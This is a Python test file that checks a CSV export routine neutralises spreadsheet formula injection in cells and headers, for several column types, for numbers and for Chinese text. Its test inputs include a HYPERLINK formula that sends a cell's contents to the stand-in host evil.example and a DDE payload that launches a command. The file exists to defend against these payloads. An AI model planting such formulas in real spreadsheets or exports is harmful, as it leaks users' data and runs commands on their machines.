"""A CSV of ours opens in a spreadsheet as text and numbers: nothing in it can run."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pyarrow as pa
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from lib.ui.tables import csv_bytes, safe

FORMULAS = [
    '=HYPERLINK("http://evil.example?"&A1,"see")',
    "=1+1",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
]


def cells(table: pd.DataFrame) -> list[list[str]]:
    """The file as a spreadsheet reads it."""
    return list(csv.reader(io.StringIO(csv_bytes(table).decode("utf-8-sig"), newline="")))


def runs(cell: str) -> bool:
    return cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"))


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_becomes_text_in_cells_and_headers(text):
    (header, *_), (cell, *_) = cells(pd.DataFrame({text: [text], "plain": ["x"]}))
    assert (header, cell) == ("'" + text, "'" + text)


@pytest.mark.parametrize(
    "dtype", ["object", "str", "string", "category", pd.ArrowDtype(pa.string())], ids=str
)
def test_whatever_kind_of_text_column_it_is(dtype):
    table = pd.DataFrame({"text": pd.Series(["=1+1", None, "fine"], dtype=dtype), "n": [1, 2, 3]})
    assert cells(table)[1:] == [["'=1+1", "1"], ["", "2"], ["fine", "3"]]


@settings(deadline=None)
@given(st.lists(st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0")), min_size=1))
def test_no_text_can_run_and_none_is_lost(texts):
    header, *rows = cells(pd.DataFrame({"text": texts, "end": ["x"] * len(texts)}))
    read = [row[0] for row in rows]
    assert not any(runs(cell) for row in [header, *rows] for cell in row)
    assert [
        cell.removeprefix("'") if runs(text) else cell for cell, text in zip(read, texts, strict=True)
    ] == texts


def test_numbers_stay_numbers():
    table = pd.DataFrame({"change": [-1.5, 2.0], "count": pd.array([-3, None], dtype="Int64")})
    assert cells(table)[1:] == [["-1.5", "-3"], ["2.0", ""]]
    assert safe(-5) == -5


def test_excel_reads_the_chinese():
    assert csv_bytes(pd.DataFrame({"貼文": ["山野咖啡"]})) == "\ufeff貼文\r\n山野咖啡\r\n".encode()
